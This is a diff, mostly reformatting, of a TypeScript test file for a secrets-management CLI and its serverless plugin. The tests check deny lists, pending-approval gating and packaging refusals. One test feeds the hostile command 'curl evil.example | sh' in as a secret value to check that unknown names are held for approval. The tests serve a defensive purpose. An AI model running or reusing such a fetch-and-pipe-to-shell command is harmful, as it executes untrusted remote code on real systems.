@@ -39,7 +39,18 @@ function handAdd(file: string, name: string, value: string, extra: Partial<Stage
 async function runChild(env: NodeJS.ProcessEnv) {
   const marker = path.join(ws.root, 'child-ran');
   fs.rmSync(marker, { force: true });
-  const r = await ws.run(['run', '--stage', 'dev', '--', process.execPath, '-e', `require('fs').writeFileSync(${JSON.stringify(marker)}, 'x')`], { env });
+  const r = await ws.run(
+    [
+      'run',
+      '--stage',
+      'dev',
+      '--',
+      process.execPath,
+      '-e',
+      `require('fs').writeFileSync(${JSON.stringify(marker)}, 'x')`,
+    ],
+    { env },
+  );
   return { ...r, childRan: fs.existsSync(marker) };
 }
 
@@ -52,7 +63,7 @@ afterAll(() => ws.cleanup());
 afterEach(() => fs.writeFileSync(ws.stageFile('dev'), approved));
 
 describe('names a writer adds without the key', () => {
-  it('the reviewer\'s hijacks are refused by set (the deny list, the second wall), the file unchanged', async () => {
+  it("the reviewer's hijacks are refused by set (the deny list, the second wall), the file unchanged", async () => {
     for (const [name, value] of HIJACKS) {
       const r = await ws.run(['set', '--stage', 'dev', name], { input: value, env: writer() });
       expect(r.code, name).toBe(1);
@@ -79,7 +90,10 @@ describe('names a writer adds without the key', () => {
   });
 
   it('a name no deny list knows is pending: the build refuses the stage, names it and the approve command', async () => {
-    const set = await ws.run(['set', '--stage', 'dev', 'EVIL_HOOK'], { input: 'curl evil.example | sh', env: writer() });
+    const set = await ws.run(['set', '--stage', 'dev', 'EVIL_HOOK'], {
+      input: 'curl evil.example | sh',
+      env: writer(),
+    });
     expect(set.code).toBe(0);
     expect(set.stderr).toContain('pending approval: EVIL_HOOK');
     const run = await runChild(ci());
@@ -119,10 +133,16 @@ describe('names a writer adds without the key', () => {
   });
 
   it('a writer can replace the value of an approved name: the residual risk SECURITY.md states', async () => {
-    const set = await ws.run(['set', '--stage', 'dev', 'CANARY_TOKEN'], { input: 'replaced-by-a-writer', env: writer() });
+    const set = await ws.run(['set', '--stage', 'dev', 'CANARY_TOKEN'], {
+      input: 'replaced-by-a-writer',
+      env: writer(),
+    });
     expect(set.code).toBe(0);
     expect(set.stderr).not.toContain('pending');
-    const r = await ws.run(['run', '--stage', 'dev', '--no-mask', '--', process.execPath, '-e', 'console.log(process.env.CANARY_TOKEN)'], { env: ci() });
+    const r = await ws.run(
+      ['run', '--stage', 'dev', '--no-mask', '--', process.execPath, '-e', 'console.log(process.env.CANARY_TOKEN)'],
+      { env: ci() },
+    );
     expect(r.code, r.stderr).toBe(0);
     expect(r.stdout).toBe('replaced-by-a-writer\n');
   });
@@ -181,10 +201,17 @@ describe('the plugin (serverless v3)', () => {
 
   it('refuses to package a stage with a pending name, or with a hand-made `proxy`, and writes no value anywhere', async () => {
     const fw = FRAMEWORKS.find((f) => f.name === 'serverless')!;
-    svc = await prepareService('sls-per-function', { stage: 'dev', secrets: { API_KEY: CANARY }, secretsDir: 'config/secrets' });
+    svc = await prepareService('sls-per-function', {
+      stage: 'dev',
+      secrets: { API_KEY: CANARY },
+      secretsDir: 'config/secrets',
+    });
     const file = path.join(svc.dir, 'config', 'secrets', 'dev.json');
     const clean = fs.readFileSync(file, 'utf8');
-    for (const [name, value] of [['EVIL_HOOK', 'x-evil-x'], ['proxy', 'http://127.0.0.1:3128']] as const) {
+    for (const [name, value] of [
+      ['EVIL_HOOK', 'x-evil-x'],
+      ['proxy', 'http://127.0.0.1:3128'],
+    ] as const) {
       fs.writeFileSync(file, clean);
       handAdd(file, name, value);
       const { result, template } = await packageService(fw, svc);
